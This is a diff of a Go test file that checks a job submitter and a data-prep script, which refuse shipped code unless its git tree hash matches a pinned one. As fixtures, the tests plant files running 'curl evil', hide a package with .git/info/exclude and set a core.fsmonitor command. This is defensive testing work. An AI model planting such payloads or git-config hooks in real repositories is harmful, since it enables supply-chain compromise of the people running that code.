@@ -42,38 +42,104 @@ func TestCheckoutFetchesTheCommit(t *testing.T) {
 	assert.Equal(t, "print('v0.6.0')\n", string(body), "the commit's code, not the branch head's")
 }
 
-// The submitter submits nothing when the checkout the job would ship is at another commit or
-// has changed; it submits when it is the commit, unchanged.
-func TestSubmitterVerifiesTheCheckout(t *testing.T) {
-	repo, commit := gitRepo(t)
-	verify := func(dir, want string) (string, int) {
-		ray := clitest.NewReplay(t, "ray", map[string][]clitest.Reply{
-			"job status": {{Code: 1}, {Files: []string{"ray-job-status-stopped.txt"}}},
-			"job submit": {{Files: []string{"ray-job-submit-no-wait.txt"}}},
-			"job logs":   {{Files: []string{"ray-job-logs.txt"}, Then: []string{"ray-job-status-stopped.txt"}}},
-		})
-		out, code := runSubmitter(t, ray, map[string]string{"POLL_SECONDS": "0", "VERIFY_DIR": dir, "VERIFY_COMMIT": want})
-		if code != 0 {
-			assert.NotContains(t, strings.Join(ray.Calls(), "\n"), "job submit", "nothing submitted")
-		}
-		return out, code
+// submitterVerifying runs the submitter with the shipped code at dir, pinned to tree; it
+// returns the output, the exit status and whether it submitted.
+func submitterVerifying(t *testing.T, dir, tree string) (string, int, bool) {
+	t.Helper()
+	ray := clitest.NewReplay(t, "ray", map[string][]clitest.Reply{
+		"job status": {{Code: 1}, {Files: []string{"ray-job-status-stopped.txt"}}},
+		"job submit": {{Files: []string{"ray-job-submit-no-wait.txt"}}},
+		"job logs":   {{Files: []string{"ray-job-logs.txt"}, Then: []string{"ray-job-status-stopped.txt"}}},
+	})
+	out, code := runSubmitter(t, ray, map[string]string{"POLL_SECONDS": "0", "VERIFY_DIR": dir, "VERIFY_TREE": tree})
+	return out, code, strings.Contains(strings.Join(ray.Calls(), "\n"), "job submit")
+}
+
+// packageRepo is a local repository whose commit holds a package `pkg` and a README; it returns
+// the repository and the package's git tree hash (what the program pins for verl).
+func packageRepo(t *testing.T) (string, string) {
+	t.Helper()
+	dir := t.TempDir()
+	for name, body := range map[string]string{"pkg/__init__.py": "", "pkg/trainer.py": "print('v0.6.0')\n", "README.md": "verl\n"} {
+		require.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o755))
+		require.NoError(t, os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644))
 	}
-	head := clitest.Git(t, repo, "rev-parse", "HEAD")
-	out, code := verify(repo, commit)
-	assert.Equal(t, 1, code, out)
-	assert.Contains(t, out, "is at "+head+", not "+commit)
+	for _, args := range [][]string{{"init", "-q"}, {"add", "-A"}, {"commit", "-qm", "v0.6.0"}} {
+		clitest.Git(t, dir, args...)
+	}
+	return dir, clitest.Git(t, dir, "rev-parse", "HEAD:pkg")
+}
 
-	out, code = verify(repo, head)
+// The submitter ships the package only when its files are exactly the pinned tree's.
+func TestSubmitterVerifiesTheShippedCode(t *testing.T) {
+	repo, tree := packageRepo(t)
+	pkg := filepath.Join(repo, "pkg")
+	out, code, submitted := submitterVerifying(t, pkg, tree)
 	require.Equal(t, 0, code, out)
-	assert.Contains(t, out, "unchanged")
+	assert.True(t, submitted)
+	assert.Contains(t, out, pkg+" is "+tree+" (git tree hash), as pinned")
 
-	require.NoError(t, os.WriteFile(filepath.Join(repo, "trainer.py"), []byte("import os; os.system('curl evil')\n"), 0o644))
-	out, code = verify(repo, head)
-	assert.Equal(t, 1, code, out)
-	assert.Contains(t, out, "differs from")
-	assert.Contains(t, out, "M trainer.py")
+	// Executable bits do not count (a volume may show every file executable).
+	require.NoError(t, os.Chmod(filepath.Join(pkg, "trainer.py"), 0o755))
+	out, code, _ = submitterVerifying(t, pkg, tree)
+	require.Equal(t, 0, code, out)
 
-	out, code = verify(t.TempDir(), commit)
+	require.NoError(t, os.WriteFile(filepath.Join(pkg, "trainer.py"), []byte("import os; os.system('curl evil')\n"), 0o644))
+	out, code, submitted = submitterVerifying(t, pkg, tree)
 	assert.Equal(t, 1, code, out)
-	assert.Contains(t, out, "is not a checkout")
+	assert.False(t, submitted, "nothing submitted")
+	assert.Contains(t, out, "is not the code this program pins")
+
+	out, code, submitted = submitterVerifying(t, filepath.Join(t.TempDir(), "missing"), tree)
+	assert.Equal(t, 1, code, out)
+	assert.False(t, submitted)
+	assert.Contains(t, out, "hash to nothing readable")
+}
+
+// What the volume's own repository says is not trusted: a package planted in the shipped code
+// and hidden by the repository's .git/info/exclude (the old check, `git status --porcelain`,
+// found that checkout clean) is refused, and a core.fsmonitor command in its .git/config (which
+// `git status` would run in the submitter) never runs.
+func TestSubmitterTrustsNoRepositoryStateOnTheVolume(t *testing.T) {
+	repo, tree := packageRepo(t)
+	pkg := filepath.Join(repo, "pkg")
+	require.NoError(t, os.MkdirAll(filepath.Join(pkg, "evil"), 0o755))
+	require.NoError(t, os.WriteFile(filepath.Join(pkg, "evil", "__init__.py"), []byte("import os; os.system('curl evil')\n"), 0o644))
+	require.NoError(t, os.WriteFile(filepath.Join(repo, ".git", "info", "exclude"), []byte("pkg/evil/\n"), 0o644))
+	assert.Empty(t, clitest.Git(t, repo, "status", "--porcelain"), "the planted package is hidden from git status")
+	out, code, submitted := submitterVerifying(t, pkg, tree)
+	assert.Equal(t, 1, code, out)
+	assert.False(t, submitted)
+	assert.Contains(t, out, "is not the code this program pins")
+
+	require.NoError(t, os.RemoveAll(filepath.Join(pkg, "evil")))
+	ran := filepath.Join(t.TempDir(), "fsmonitor-ran")
+	clitest.Git(t, repo, "config", "core.fsmonitor", "touch "+ran+"; false")
+	clitest.Git(t, repo, "status", "--porcelain")
+	require.FileExists(t, ran, "git status runs the volume's fsmonitor command")
+	require.NoError(t, os.Remove(ran))
+	out, code, submitted = submitterVerifying(t, pkg, tree)
+	require.Equal(t, 0, code, out)
+	assert.True(t, submitted)
+	assert.NoFileExists(t, ran, "the submitter runs nothing the volume's repository names")
+}
+
+// The data preparation runs verl's dataset script from the volume only once the scripts'
+// directory is the pinned tree, and writes no bytecode into it.
+func TestPrepRunsOnlyVerifiedCode(t *testing.T) {
+	repo, tree := packageRepo(t)
+	pkg := filepath.Join(repo, "pkg")
+	run := func() clitest.Result {
+		return clitest.RunScript(t, workloads.PrepScript(nil)+"run_verified "+pkg+" "+tree+" "+pkg+" "+tree+" -- python3 -c 'import sys; print(sys.dont_write_bytecode)'\n")
+	}
+	clitest.Tool(t, "python3")
+	res := run()
+	require.Equal(t, 0, res.Code, res.Stderr)
+	assert.Contains(t, res.Stdout, "as pinned\nTrue\n")
+
+	require.NoError(t, os.WriteFile(filepath.Join(pkg, "gsm8k.py"), []byte("import os; os.system('curl evil')\n"), 0o644))
+	res = run()
+	assert.Equal(t, 1, res.Code)
+	assert.Contains(t, res.Stderr, "is not the code this program pins")
+	assert.NotContains(t, res.Stdout, "True", "the command did not run")
 }
